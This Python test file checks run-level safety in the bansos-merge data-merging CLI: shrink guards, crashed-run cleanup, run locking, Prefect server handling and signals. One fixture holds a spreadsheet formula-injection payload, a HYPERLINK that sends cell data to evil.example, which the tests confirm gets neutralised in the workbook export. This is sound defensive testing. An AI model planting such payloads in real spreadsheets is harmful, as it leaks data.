"""Run-level safety through the real CLI: the shrink guard across runs, a crashed run's work
folder and `bansos-merge clean`, formula payloads in the workbook, one run per output
directory, and the Prefect server a run talks to (a long-lived one reused, a temporary one
of its own otherwise, two runs at once, the server dying, SIGTERM and Ctrl-C)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
import urllib.request
from pathlib import Path

import openpyxl
import pandas as pd
import psutil
import pytest
import yaml

from bansos_merge.publish.shrink import shrink_problems
from bansos_merge.publish.formula import FORMULA_START
from bansos_merge.sample.generate import generate_sample

BIN = Path(sys.executable).parent
CLI = [str(BIN / "bansos-merge")]

DUKCAPIL = (
    "NIK;NAMA_LGKP;JENIS_KLMIN;TGL_LHR;KEL_NAME\n"
    "3201014508700001;SITI AMINAH;P;05-08-1970;SUKAMAJU\n"
    "3201011203650002;SOEPARMAN;L;12-03-1965;SUKAMAJU\n"
    "3201015112800003;ANI;P;11-12-1980;SUKAMAJU\n"
    "3201010101900004;BUDI;L;01-01-1990;SUKARAJA\n"
)
DUKCAPIL_SOURCE = {
    "name": "dukcapil",
    "path": "dukcapil.csv",
    "kind": "civil_registry",
    "columns": {"nik": "NIK", "name": "NAMA_LGKP", "sex": "JENIS_KLMIN", "birth_date": "TGL_LHR", "village": "KEL_NAME"},
}
PAYLOAD = '=HYPERLINK("http://evil.example/?q="&A1,"klik")'
AID = (
    "NO;NIK;NAMA;DESA\n"
    f'"{PAYLOAD.replace(chr(34), chr(34) * 2)}";12345;SITI AMINAH;"{PAYLOAD.replace(chr(34), chr(34) * 2)}"\n'
    "@SUM(1+1);3201011203650002;SUPARMAN;+62 SUKAMAJU\n"
    "-7;0000000000000000;ANI;-SUKAMAJU\n"
)
AID_SOURCE = {"name": "blt", "path": "blt.csv", "kind": "aid_list", "id_column": "NO", "columns": {"nik": "NIK", "name": "NAMA", "village": "DESA"}}


def _env(home: Path, prefect_home: Path | None = None) -> dict[str, str]:
    """A CLI environment of its own: bansos-merge's state (the recorded server) under `home`,
    Prefect's (its database) there too unless shared, no PREFECT_API_URL from the caller."""
    env = dict(os.environ, PREFECT_SERVER_ANALYTICS_ENABLED="false", XDG_STATE_HOME=str(home / "state"))
    env["PREFECT_HOME"] = str(prefect_home or home / "prefect")
    env.pop("PREFECT_API_URL", None)
    return env


def _cli(args: list[str], env: dict[str, str], **kw) -> subprocess.CompletedProcess:
    return subprocess.run(CLI + args, capture_output=True, text=True, env=env, timeout=900, **kw)


def _start(args: list[str], env: dict[str, str], session: bool = False) -> subprocess.Popen:
    """The CLI in the background; `session`: in a process group of its own, as a terminal
    starts a command (Ctrl-C then signals the group)."""
    return subprocess.Popen(
        CLI + args,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env=env,
        # pytest may run with SIGINT ignored in children; a data officer's terminal does not.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
        start_new_session=session,
    )


def _until(proc: subprocess.Popen, marker: str) -> str:
    seen = []
    for line in proc.stdout:
        seen.append(line)
        if marker in line:
            return "".join(seen)
    raise AssertionError(f"{marker!r} never printed:\n{''.join(seen[-30:])}")


def _finish(proc: subprocess.Popen, before: str = "") -> str:
    rest = proc.communicate(timeout=900)[0]
    return before + rest


def _config(folder: Path, sources: list[dict]) -> Path:
    path = folder / "merge.yaml"
    path.write_text(yaml.safe_dump({"output_dir": "out", "sources": sources}, sort_keys=False))
    return path


def _latest(out: Path) -> str | None:
    link = out / "latest"
    return link.resolve().name if link.exists() else None


def _partials(out: Path) -> list[Path]:
    return list((out / "runs").glob(".*.partial")) if (out / "runs").exists() else []


def _errors(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("bansos-merge: error:")]


def _port_open(url: str) -> bool:
    port = int(re.search(r"127\.0\.0\.1:(\d+)", url).group(1))
    with socket.socket() as s:
        return s.connect_ex(("127.0.0.1", port)) == 0


def _api_url(text: str) -> str:
    return re.search(r"http://127\.0\.0\.1:\d+/api", text).group(0)


@pytest.fixture(scope="module")
def sample(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("runsafety") / "sample"
    generate_sample(4000, 7, out)
    return out


@pytest.fixture(scope="module")
def prefect_home(tmp_path_factory) -> Path:
    """One Prefect database for the module's temporary servers: migrated once, not per test."""
    return tmp_path_factory.mktemp("prefect-home")


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """A long-lived server started by `bansos-merge server start`; the env that finds it."""
    env = _env(tmp_path_factory.mktemp("server-home"))
    started = _cli(["server", "start"], env)
    assert started.returncode == 0, started.stdout + started.stderr
    yield env
    _cli(["server", "stop"], env)


# --- the shrink guard -------------------------------------------------------------------------


def test_shrink_problems_is_a_pure_rule() -> None:
    previous = {"sources": [{"source": "a", "accepted": 10}, {"source": "b", "accepted": 4}, {"source": "c", "accepted": 0}]}
    assert shrink_problems(None, {"a": 0}) == []
    assert shrink_problems(previous, {"a": 5, "b": 2, "c": 0}) == []  # exactly half: not more than half gone
    problems = shrink_problems(previous, {"a": 4})  # b gone; c had nothing to lose
    assert problems == [
        "source 'a': 4 rows accepted, 10 in the previous run",
        "source 'b' (4 rows accepted in the previous run) is not in this run",
    ]


def test_shrink_guard_across_runs(tmp_path: Path, server: dict[str, str]) -> None:
    (tmp_path / "dukcapil.csv").write_text(DUKCAPIL, encoding="utf-8")
    (tmp_path / "blt.csv").write_text(AID, encoding="utf-8")
    config = _config(tmp_path, [DUKCAPIL_SOURCE, AID_SOURCE])
    out = tmp_path / "out"
    first = _cli(["run", "--config", str(config)], server)
    assert first.returncode == 0, first.stdout + first.stderr
    assert "reusing the server started by `bansos-merge server start`" in first.stdout
    before = _latest(out)

    # The civil-registry file replaced by its header alone: stopped, nothing published.
    (tmp_path / "dukcapil.csv").write_text(DUKCAPIL.splitlines()[0] + "\n", encoding="utf-8")
    stopped = _cli(["run", "--config", str(config)], server)
    assert stopped.returncode == 2, stopped.stdout + stopped.stderr
    assert "Traceback" not in stopped.stdout + stopped.stderr
    (error,) = _errors(stopped.stderr)
    for text in ("source 'dukcapil': 0 rows accepted, 4 in the previous run", before, "Nothing was published", "--allow-shrink"):
        assert text in error
    assert _latest(out) == before and not _partials(out)

    allowed = _cli(["run", "--config", str(config), "--allow-shrink"], server)
    assert allowed.returncode == 0, allowed.stdout + allowed.stderr
    assert _latest(out) != before
    manifest = json.loads((out / "latest" / "manifest.json").read_text())
    assert manifest["shrink_guard"] == {"allow_shrink": True, "overridden": ["source 'dukcapil': 0 rows accepted, 4 in the previous run"]}
    assert set(pd.read_parquet(out / "latest" / "records.parquet")["source"]) == {"blt"}

    # A source removed from the config is gone too.
    config = _config(tmp_path, [DUKCAPIL_SOURCE])
    removed = _cli(["run", "--config", str(config)], server)
    assert removed.returncode == 2
    (error,) = _errors(removed.stderr)
    assert "source 'blt' (3 rows accepted in the previous run) is not in this run" in error
    assert _cli(["run", "--config", str(config), "--allow-shrink"], server).returncode == 0


# --- the workbook -----------------------------------------------------------------------------


def test_formula_payloads_are_prefixed_in_the_workbook(tmp_path: Path, server: dict[str, str]) -> None:
    (tmp_path / "dukcapil.csv").write_text(DUKCAPIL, encoding="utf-8")
    (tmp_path / "blt.csv").write_text(AID, encoding="utf-8")
    config = _config(tmp_path, [DUKCAPIL_SOURCE, AID_SOURCE])
    done = _cli(["run", "--config", str(config)], server)
    assert done.returncode == 0, done.stdout + done.stderr
    latest = tmp_path / "out" / "latest"

    records = pd.read_parquet(latest / "records.parquet")
    assert PAYLOAD in set(records["record_id"])  # the data keeps its values; only the workbook is guarded
    workbook = openpyxl.load_workbook(latest / "conflicts.xlsx")
    cells = [c for ws in workbook for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + PAYLOAD in {c.value for c in cells}
    assert {"'@SUM(1+1)", "'-7"} <= {c.value for c in cells}
    assert all(c.data_type == "s" for c in cells)
    # What a CSV export of every sheet holds: no field a spreadsheet would evaluate.
    exported = io.StringIO()
    for ws in workbook:
        csv.writer(exported).writerows(ws.iter_rows(values_only=True))
    fields = [f for row in csv.reader(io.StringIO(exported.getvalue())) for f in row if f]
    assert fields and not [f for f in fields if f[0] in FORMULA_START]


# --- crashed runs, one run at a time ----------------------------------------------------------


def test_killed_run_leaves_a_private_work_folder_that_clean_removes(sample: Path, tmp_path: Path, server: dict[str, str]) -> None:
    out = tmp_path / "out"
    args = ["run", "--config", str(sample / "merge.yaml"), "--output", str(out)]
    proc = _start(args, server)
    _until(proc, "[2/5] link")
    proc.kill()  # SIGKILL: no cleanup runs at all
    proc.wait(timeout=60)
    (partial,) = _partials(out)
    work = partial / ".work"
    assert stat.S_IMODE(work.stat().st_mode) == 0o700
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o700 for p in work.iterdir() if p.is_dir())
    assert any(work.rglob("*.pkl"))  # the intermediate records are there, for this user only

    cleaned = _cli(["clean", "--output", str(out)], server)
    assert cleaned.returncode == 0, cleaned.stderr
    assert f"removed {partial}" in cleaned.stdout
    assert not partial.exists() and _latest(out) is None
    assert _cli(["clean", "--output", str(out)], server).stdout.startswith("nothing to clean")


def test_one_run_at_a_time_per_output_directory(sample: Path, tmp_path: Path, server: dict[str, str]) -> None:
    out = tmp_path / "out"
    args = ["run", "--config", str(sample / "merge.yaml"), "--output", str(out)]
    first = _start(args, server)
    seen = _until(first, "[1/5] read")
    os.kill(first.pid, signal.SIGSTOP)  # hold it mid-run, with its lock
    try:
        second = _cli(args, server)
        cleaning = _cli(["clean", "--output", str(out)], server)
    finally:
        os.kill(first.pid, signal.SIGCONT)
    for refused in (second, cleaning):
        assert refused.returncode == 2, refused.stdout + refused.stderr
        (error,) = _errors(refused.stderr)
        assert f"another bansos-merge run (pid {first.pid}, run " in error and str(out) in error
    assert len(_partials(out)) == 1  # the waiting run's folder was left alone
    rest = _finish(first, seen)
    assert first.returncode == 0, rest[-3000:]
    assert _latest(out) and not _partials(out)


# --- the Prefect server -----------------------------------------------------------------------


def test_a_run_reuses_the_long_lived_server_and_falls_back_to_its_own(sample: Path, tmp_path: Path, prefect_home: Path) -> None:
    env = _env(tmp_path, prefect_home)
    started = _cli(["server", "start"], env)
    assert started.returncode == 0 and "Prefect server started" in started.stdout, started.stdout + started.stderr
    state_dir = tmp_path / "state" / "bansos-merge"
    assert stat.S_IMODE(state_dir.stat().st_mode) == 0o700
    assert stat.S_IMODE((state_dir / "prefect-server.json").stat().st_mode) == 0o600
    state = json.loads((state_dir / "prefect-server.json").read_text())
    try:
        again = _cli(["server", "start"], env)
        assert "already running" in again.stdout and f"pid {state['pid']}" in again.stdout
        status = _cli(["server", "status"], env)
        assert status.returncode == 0 and f"export PREFECT_API_URL={state['api_url']}" in status.stdout

        run = _cli(["run", "--config", str(sample / "merge.yaml"), "--output", str(tmp_path / "out")], env)
        assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
        assert f"reusing the server started by `bansos-merge server start` ({state['api_url']})" in run.stdout
        request = urllib.request.Request(f"{state['api_url']}/flow_runs/filter", data=b"{}", headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=30) as r:
            flow_runs = json.load(r)
        assert [f["state_type"] for f in flow_runs] == ["COMPLETED"]  # the run is recorded in the long-lived server
    finally:
        stopped = _cli(["server", "stop"], env)
    assert stopped.returncode == 0 and f"pid {state['pid']}" in stopped.stdout
    assert not _port_open(state["api_url"])
    assert _cli(["server", "status"], env).returncode == 1

    # With no server to reuse, a run needs none: it runs here, on this process's threads ...
    here = _cli(["run", "--config", str(sample / "merge.yaml"), "--output", str(tmp_path / "out")], env)
    assert here.returncode == 0, here.stdout[-3000:] + here.stderr[-3000:]
    assert "running here, without Prefect" in here.stdout and "Prefect:" not in here.stdout
    # ... and --prefect gives it a temporary server of its own.
    fallback = _cli(["run", "--prefect", "--config", str(sample / "merge.yaml"), "--output", str(tmp_path / "out")], env)
    assert fallback.returncode == 0, fallback.stdout[-3000:] + fallback.stderr[-3000:]
    assert "Prefect: temporary server on" in fallback.stdout
    assert not _port_open(_api_url(fallback.stdout))  # stopped with the run


def test_prefect_state_is_kept_with_bansos_merge_state_not_in_the_shared_home(tmp_path: Path) -> None:
    """With PREFECT_HOME unset, a run through Prefect keeps Prefect's database under
    bansos-merge's state folder (XDG_STATE_HOME), and writes nothing to ~/.prefect."""
    (tmp_path / "dukcapil.csv").write_text(DUKCAPIL, encoding="utf-8")
    config = _config(tmp_path, [DUKCAPIL_SOURCE])
    env = _env(tmp_path)
    del env["PREFECT_HOME"]
    env["HOME"] = str(tmp_path / "home")
    done = _cli(["run", "--prefect", "--config", str(config)], env)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    home = tmp_path / "state" / "bansos-merge" / "prefect"
    assert (home / "prefect.db").stat().st_size > 0
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    assert not (tmp_path / "home" / ".prefect").exists()


def test_two_runs_started_together_get_their_own_servers(sample: Path, tmp_path: Path, prefect_home: Path) -> None:
    env = _env(tmp_path, prefect_home)
    procs = [_start(["run", "--prefect", "--config", str(sample / "merge.yaml"), "--output", str(tmp_path / f"out{i}")], env) for i in (1, 2)]
    outputs = [_finish(p) for p in procs]
    for proc, text in zip(procs, outputs):
        assert proc.returncode == 0, text[-3000:]
        assert "Traceback" not in text
    urls = [_api_url(text) for text in outputs]
    assert all("Prefect: temporary server on" in text for text in outputs) and urls[0] != urls[1]
    for i, text in zip((1, 2), outputs):
        run_id = _latest(tmp_path / f"out{i}")
        assert f"run published: {tmp_path / f'out{i}' / 'runs' / run_id}" in text
    assert not any(_port_open(url) for url in urls)


def test_server_dying_before_or_after_publishing(sample: Path, tmp_path: Path) -> None:
    """The exit code says what was published: the server gone before the flow starts fails
    the run (exit 1, one line, nothing published); gone while it publishes, the run stands."""
    env = _env(tmp_path)
    out = tmp_path / "out"
    args = ["run", "--config", str(sample / "merge.yaml"), "--output", str(out)]
    state_file = tmp_path / "state" / "bansos-merge" / "prefect-server.json"

    for marker in ("reusing the server", "[5/5] publish"):
        assert _cli(["server", "start"], env).returncode == 0
        pid = json.loads(state_file.read_text())["pid"]
        before = _latest(out)
        proc = _start(args, env)
        seen = _until(proc, marker)
        os.killpg(pid, signal.SIGKILL)
        text = _finish(proc, seen)
        assert "Traceback" not in text
        if marker == "reusing the server":
            assert proc.returncode == 1, text[-3000:]
            (error,) = _errors(text)
            assert "talking to the Prefect API" in error and error.endswith("nothing was published")
            assert _latest(out) == before and "run published" not in text
        else:
            assert proc.returncode == 0, text[-3000:]
            assert _latest(out) != before and f"run published: {out / 'runs' / _latest(out)}" in text
            assert not _errors(text)
        assert not _partials(out)


@pytest.fixture(scope="module")
def published(sample: Path, tmp_path_factory) -> tuple[Path, Path]:
    """A config whose stages are cut into many small tasks (so that a signal lands while some
    run), and an output directory holding one published run of it."""
    config = yaml.safe_load((sample / "merge.yaml").read_text())
    config["execution"] = {"partition_rows": 1000, "pair_chunk": 10_000, "person_partition_rows": 1000}
    small = sample / "merge_small_parts.yaml"
    small.write_text(yaml.safe_dump(config, sort_keys=False))
    out = tmp_path_factory.mktemp("published") / "out"
    done = _cli(["run", "--no-prefect", "--config", str(small), "--output", str(out)], _env(out.parent))
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    return small, out


def _complete(out: Path) -> str:
    """The run `latest` points at, checked whole: its manifest, and as many records as it says."""
    run = (out / "latest").resolve()
    manifest = json.loads((run / "manifest.json").read_text())
    assert pd.read_parquet(run / "records.parquet", columns=["record_id"]).shape[0] == manifest["totals"]["accepted"]
    return run.name


def _normalising(out: Path, proc: subprocess.Popen) -> None:
    """Return once the run writes its first normalised part (more are being written): the
    moment a stopped run used to remove the folder under its still-running tasks."""
    deadline = time.monotonic() + 600
    while not any((out / "runs").glob(".*.partial/.work/parts/*.pkl")):
        assert proc.poll() is None and time.monotonic() < deadline, "the run ended, or never normalised a part"
        time.sleep(0.05)


# Ctrl-C in a terminal signals the whole foreground process group; `kill`, systemd's
# KillMode=mixed and `docker stop` send SIGTERM to the run's own process.
@pytest.mark.parametrize(
    "sig, to_group, code, message",
    [(signal.SIGINT, True, 130, "interrupted"), (signal.SIGTERM, False, 143, "terminated")],
    ids=["ctrl-c", "sigterm"],
)
@pytest.mark.parametrize("where", ["--prefect", "--no-prefect"])
def test_sigterm_and_ctrl_c_stop_the_run_and_its_server(
    published: tuple[Path, Path], tmp_path: Path, prefect_home: Path, sig, to_group, code, message, where
) -> None:
    """A signal while normalisation's tasks run: they are stopped before the run's folder is removed
    (no traceback from a task writing into it), one line, the exit code, the previous run still
    `latest` and whole, and no process of the run's left (its temporary Prefect server)."""
    config, published_out = published
    out = tmp_path / "out"
    shutil.copytree(published_out, out, symlinks=True)
    before = _complete(out)
    proc = _start(["run", where, "--config", str(config), "--output", str(out)], _env(tmp_path, prefect_home), session=to_group)
    lines: list[str] = []
    reader = threading.Thread(target=lambda: [lines.append(line) for line in proc.stdout], daemon=True)
    reader.start()
    _normalising(out, proc)
    seen = "".join(lines)
    children = psutil.Process(proc.pid).children(recursive=True)
    assert len(children) == (1 if where == "--prefect" else 0), children  # the temporary server
    os.killpg(proc.pid, sig) if to_group else proc.send_signal(sig)
    proc.wait(timeout=300)
    reader.join(timeout=60)
    text = "".join(lines)
    assert proc.returncode == code, text[-3000:]
    assert "Traceback" not in text and "FileNotFoundError" not in text, text[-3000:]
    assert [line for line in text.splitlines() if line.startswith("bansos-merge:")] == [f"bansos-merge: {message}; nothing was published"]
    assert _complete(out) == before and not _partials(out)
    _, alive = psutil.wait_procs(children, timeout=10)
    assert not alive, [p.cmdline() for p in alive]
    if where == "--prefect":
        assert not _port_open(_api_url(seen))  # the run's own server went with it


def test_no_server_to_use_is_one_clear_error(sample: Path, tmp_path: Path) -> None:
    """PREFECT_API_URL that does not answer stops a run before it starts; `serve` without any
    server to hold its schedule says how to start one."""
    env = _env(tmp_path)
    with socket.socket() as s:  # a port nothing listens on
        s.bind(("127.0.0.1", 0))
        dead = f"http://127.0.0.1:{s.getsockname()[1]}/api"
    run = _cli(["run", "--config", str(sample / "merge.yaml"), "--output", str(tmp_path / "out")], {**env, "PREFECT_API_URL": dead})
    serve = _cli(["serve", "--config", str(sample / "merge.yaml")], env)
    for done, text in ((run, f"PREFECT_API_URL={dead} does not answer"), (serve, "`bansos-merge server start`")):
        assert done.returncode == 2, done.stdout + done.stderr
        (error,) = _errors(done.stderr)
        assert text in error and "Traceback" not in done.stderr
    assert not (tmp_path / "out").exists()


def test_a_finished_run_leaves_no_process_behind(tmp_path: Path) -> None:
    """Every process the run started (the workbook's writer, multiprocessing's resource tracker)
    has ended by the time the CLI exits; the tracker is polled for while the run lasts."""
    (tmp_path / "dukcapil.csv").write_text(DUKCAPIL, encoding="utf-8")
    (tmp_path / "blt.csv").write_text(AID, encoding="utf-8")
    config = _config(tmp_path, [DUKCAPIL_SOURCE, AID_SOURCE])
    run = subprocess.Popen(CLI + ["run", "--config", str(config)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=_env(tmp_path))
    cli, seen = psutil.Process(run.pid), {}  # pid -> (process, its command line when first seen)
    while run.poll() is None:
        try:
            for p in cli.children(recursive=True):
                if p.pid not in seen:
                    seen[p.pid] = (p, " ".join(_cmdline(p)))
        except psutil.NoSuchProcess:
            break
        time.sleep(0.01)
    output = run.communicate()[0]
    assert run.returncode == 0, output
    assert any("resource_tracker" in line for _, line in seen.values()), "the tracker was never seen"
    left = [line for p, line in seen.values() if p.is_running() and p.status() != psutil.STATUS_ZOMBIE]
    assert not left, left


def _cmdline(p: psutil.Process) -> list[str]:
    try:
        return p.cmdline()
    except psutil.Error:
        return []
